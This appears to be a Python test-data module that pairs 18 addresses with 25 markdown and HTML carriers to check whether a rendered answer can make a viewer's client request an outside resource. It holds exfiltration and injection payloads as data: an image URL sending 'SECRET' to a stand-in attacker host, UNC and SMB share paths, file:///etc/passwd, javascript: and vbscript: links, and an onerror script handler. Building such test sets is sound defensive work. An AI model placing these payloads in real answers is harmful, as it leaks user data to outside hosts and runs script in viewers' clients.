"""Ways by which an answer could make a viewer ask for something: 18 addresses x 25 carriers."""

ADDRESSES = [
    "https://evil.example/x.png?q=SECRET", "http://127.0.0.1:9/x", "//evil.example/x",
    "\\\\evil.example\\share\\x.png", "file:////evil.example/share/x.png", "file:///etc/passwd",
    "ftp://evil.example/x", "data:image/png;base64,AA", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    "vbscript:x", "smb://evil/x", "ms-word:ofe|u|http://evil", "qrc:/x", "https:evil.example/x",
    "https://evil.example/%0a", "obsidian://x", "search-ms:query=x",
]  # fmt: skip

CARRIERS = [
    "![a]({u})", "![a][r]\n\n[r]: {u}", '<img src="{u}">', "<img src={u} onerror=alert(1)>",
    "[![a]({u})]({u})", '<table background="{u}"><tr><td>x</td></tr></table>',
    '<td style="background-image:url({u})">', '<link rel="stylesheet" href="{u}">',
    '<style>@import "{u}";</style>', '<svg><image href="{u}"/></svg>', '<object data="{u}"></object>',
    '<iframe src="{u}"></iframe>', '<video poster="{u}">', '<a href="{u}">click</a>', "[click]({u})", "<{u}>",
    "[click][r]\n\n[r]: {u}", '<base href="{u}"><img src="a.png">', "`![a]({u})`", "```\n![a]({u})\n```",
    '![a](<{u}> "t")', "!\\[a]({u})", '&lt;img src="{u}"&gt;',
    '<ul style="list-style-image:url({u})"><li>x</li></ul>', '<body background="{u}">x',
]  # fmt: skip
